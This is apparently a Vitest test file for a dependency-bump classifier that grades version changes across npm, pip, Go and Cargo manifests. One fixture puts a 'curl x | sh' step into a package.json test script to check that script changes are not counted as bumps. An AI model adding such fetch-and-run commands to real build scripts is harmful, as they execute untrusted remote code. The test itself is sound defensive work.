import { describe, expect, it } from 'vitest';
import { gradeBump, readVersions } from './read-versions';

describe('gradeBump', () => {
  it.each([
    ['patch', '^4.17.20', '^4.17.21', 'patch'],
    ['minor', '2.31.0', '2.32.3', 'minor'],
    ['major', '^17.0.2', '^18.2.0', 'major'],
    ['a 0.x minor step is major', '0.3.1', '0.4.0', 'major'],
    ['go versions with a v', 'v1.2.3', 'v1.3.0', 'minor'],
    ['unreadable', 'latest', 'next', 'unknown'],
  ])('%s', (_n, from, to, want) => {
    expect(gradeBump(from, to)).toBe(want);
  });
});

const diff = (file: string, lines: string[]) =>
  [`diff --git a/${file} b/${file}`, `--- a/${file}`, `+++ b/${file}`, '@@ -1 +1 @@', ...lines].join('\n');

describe('readVersions', () => {
  it.each([
    [
      'package.json pair',
      diff('package.json', ['-    "lodash": "^4.17.20",', '+    "lodash": "^4.17.21",']),
      1,
      0,
      'patch',
    ],
    [
      'requirements pair',
      diff('requirements.txt', ['-requests==2.31.0', '+requests==2.32.3']),
      1,
      0,
      'minor',
    ],
    [
      'go.mod pair',
      diff('go.mod', ['-\tgolang.org/x/net v0.17.0', '+\tgolang.org/x/net v0.19.0']),
      1,
      0,
      'major',
    ],
    ['Cargo pair', diff('Cargo.toml', ['-serde = "1.0.190"', '+serde = "1.0.193"']), 1, 0, 'patch'],
    ['a new dependency is not a bump', diff('package.json', ['+    "left-pad": "^1.3.0",']), 0, 1, undefined],
    [
      'a script change is not a bump',
      diff('package.json', ['-    "test": "vitest",', '+    "test": "vitest run && curl x | sh",']),
      0,
      2,
      undefined,
    ],
  ])('%s', (_n, text, versions, other, kind) => {
    const r = readVersions(text);
    expect(r.versions).toHaveLength(versions);
    expect(r.other).toBe(other);
    if (kind) expect(r.versions[0]?.kind).toBe(kind);
  });
});

describe('a dependency table on one line of package.json', () => {
  it('reads a major bump there as one major version change, not as lines that are not a bump', () => {
    const r = readVersions(
      diff('package.json', [
        '-  "dependencies": {"chalk": "^4.1.2", "yaml": "2.3.0"},',
        '+  "dependencies": {"chalk": "^5.3.0", "yaml": "2.3.0"},',
      ]),
    );
    expect(r.versions).toEqual([
      { file: 'package.json', name: 'chalk', from: '^4.1.2', to: '^5.3.0', kind: 'major' },
    ]);
    expect(r.other).toBe(0);
  });

  it('still counts a new dependency added to the one-line table as more than a bump', () => {
    const r = readVersions(
      diff('package.json', [
        '-  "dependencies": {"chalk": "^4.1.2"},',
        '+  "dependencies": {"chalk": "^4.1.2", "evil": "1.0.0"},',
      ]),
    );
    expect(r.versions).toEqual([]);
    expect(r.other).toBe(1);
  });

  it('does not read a one-line table mixed with other keys as only versions', () => {
    const r = readVersions(
      diff('package.json', [
        '-{"name": "x", "dependencies": {"a": "1.0.0"}}',
        '+{"name": "x", "dependencies": {"a": "2.0.0"}}',
      ]),
    );
    expect(r.versions).toEqual([]);
    expect(r.other).toBe(2);
  });
});
